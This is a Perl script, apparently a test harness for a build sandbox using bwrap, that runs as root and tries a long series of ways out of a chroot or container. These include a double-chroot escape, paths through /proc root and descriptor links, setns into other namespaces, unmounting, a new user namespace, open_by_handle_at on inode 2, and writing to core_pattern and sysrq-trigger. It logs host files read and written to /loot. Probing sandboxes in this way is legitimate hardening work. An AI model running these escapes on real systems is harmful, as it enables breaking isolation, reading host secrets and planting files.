# attack.pl SECRET FOLDER STEP: tries what gets a root process out of a chroot, and some more. SECRET is a file of the host, FOLDER one of its
# folders that may be written to. What was reached stands in /loot afterwards, a line each.
my ($secret, $folder, $step) = @ARGV;
open(my $loot, '>>', '/loot') or die "no loot: $!";
sub reached { syswrite($loot, "$step: $_[0]\n") }

# x86-64
my %call = (access => 21, socket => 41, syslog => 103, keyctl => 250, mount => 165, umount => 166, unshare => 272, open_by_handle_at => 304, setns => 308);
# Perl hands over numbers as they are and texts where they lie, if they are not its own.
sub call { my ($name, @words) = @_; return syscall($call{$name}, @words) }
my ($newns, $newuser, $detach) = (0x00020000, 0x10000000, 2);

# Reads and writes by way of a folder that may be the host's root.
sub try_root {
  my ($root, $how) = @_;
  for my $up ('', '/..' x 40) {
    if (open(my $file, '<', "$root$up$secret")) { my $text = join('', <$file>); reached("$how read $text") }
    if (open(my $file, '>', "$root$up$folder/planted")) { reached("$how wrote") }
  }
}
# In a process of its own, since it may lose its root.
sub alone {
  my ($how, $what) = @_;
  my $child = fork();
  if ($child == 0) { $what->($how); exit 0 }
  waitpid($child, 0);
}
sub leave_root {
  my ($how) = @_;
  mkdir('/jail');
  chdir('/');
  chroot('/jail') or return;
  chdir('..') for 1 .. 100;
  chroot('.');
  try_root('', "$how, out of a second chroot");
}
my @pids = grep { /^\d+$/ } do { opendir(my $proc, '/proc') or die; readdir($proc) };

try_root('', 'by its path');
for my $pid (@pids, $$) {
  try_root("/proc/$pid/$_", "through /proc/$pid/$_") for 'root', 'cwd';
  opendir(my $fds, "/proc/$pid/fd") or next;
  for my $fd (grep { /^\d+$/ } readdir($fds)) {
    my $what = readlink("/proc/$pid/fd/$fd") // next;
    reached("descriptor $fd of $pid is $what") if $what =~ m{^\Q$folder\E|^\Q$secret\E|^socket:|/store/};
    try_root("/proc/$pid/fd/$fd", "through descriptor $fd of $pid");
  }
  if (open(my $file, '<', "/proc/$pid/cmdline")) { my $words = join('', <$file>); reached("sees process $words") if $words =~ /in-overlay|nat64-forge\.mjs|apt-get/ }
  # What keeps it here must be no process that it sees: such a one has this host's folders open for a moment, which is not to be caught in a test.
  reached("sees what keeps it here, $pid") if (readlink("/proc/$pid/exe") // '') =~ m{/bwrap(?: \(deleted\))?$};
  if (open(my $file, '<', "/proc/$pid/environ")) { my $words = join('', <$file>); reached("sees environment $words") if $words =~ /OUTSIDE=/ }
  # The one that keeps it here, where that is no program of the image: as soon as nobody runs that, it could be written to.
  if ($pid == 1) {
    my $exe = "/proc/1/exe";
    my ($is, $own) = map { join(' ', (stat($_))[0, 1]) } $exe, readlink($exe) // '';
    reached('may write to the program of 1') if $is ne $own && call('access', $exe, 2) == 0;
  }
}
alone('chroot', \&leave_root);
alone('setns', sub {
  for my $pid (@pids) {
    for my $kind ('user', 'mnt') {
      open(my $space, '<', "/proc/$pid/ns/$kind") or next;
      next if readlink("/proc/$pid/ns/$kind") eq readlink("/proc/self/ns/$kind");
      reached("entered the $kind namespace of $pid") if call('setns', fileno($space), 0) == 0;
    }
    try_root('', "setns $pid");
  }
});
alone('mounts', sub {
  reached('mounted a file system') if call('mount', 'none', '/mnt', 'tmpfs', 0, 0) == 0;
  reached('unmounted /dev') if call('umount', '/dev', $detach) == 0;
  reached('unmounted /proc/sys') if call('umount', '/proc/sys', $detach) == 0;
});
alone('user namespace', sub {
  my ($how) = @_;
  call('unshare', $newuser | $newns) == 0 or return;
  reached('made a user namespace');
  for (['setgroups', 'deny'], ['uid_map', '0 0 1'], ['gid_map', '0 0 1']) { if (open(my $file, '>', "/proc/self/$_->[0]")) { syswrite($file, $_->[1]) } }
  call('umount', $_, $detach) for '/proc/sys', '/proc', '/dev', '/run/nat64-forge', '/run', '/tmp', '/';
  try_root('', "$how, below its mounts");
  leave_root($how);
});
alone('handles', sub {
  # Inode 2 of the file system on which the store's folder lies: its root.
  for my $path ('/run/nat64-forge', '/') {
    opendir(my $dir, $path) or next;
    my $fd = call('open_by_handle_at', fileno($dir), pack('L l L L', 8, 1, 2, 0), 0);
    if ($fd >= 0) { reached("opened a handle at $path"); try_root("/proc/self/fd/$fd", 'handle') }
  }
});
reached('opened a socket to the host of a virtual machine') if call('socket', 40, 1, 0) >= 0;
reached('read the kernel\'s log') if do { my $text = ' ' x 4096; call('syslog', 3, $text, 4096) > 0 };
reached('used a keyring') if call('keyctl', 0, -3, 0) >= 0;
alone('devices', sub { for (['b', 254, 0], ['b', 8, 0], ['c', 1, 1]) { reached("made a device node @$_") if system("mknod /device-$$ @$_ 2>/dev/null") == 0 } });
for my $switch ('sys/kernel/panic', 'sys/kernel/core_pattern', 'sys/vm/drop_caches', 'sysrq-trigger', 'kcore', 'kmsg') { if (open(my $file, $switch =~ /^k/ ? '<' : '>', "/proc/$switch")) { reached("opened /proc/$switch") } }
open(my $done, '>>', '/attacked') or die;
print $done "$step\n";
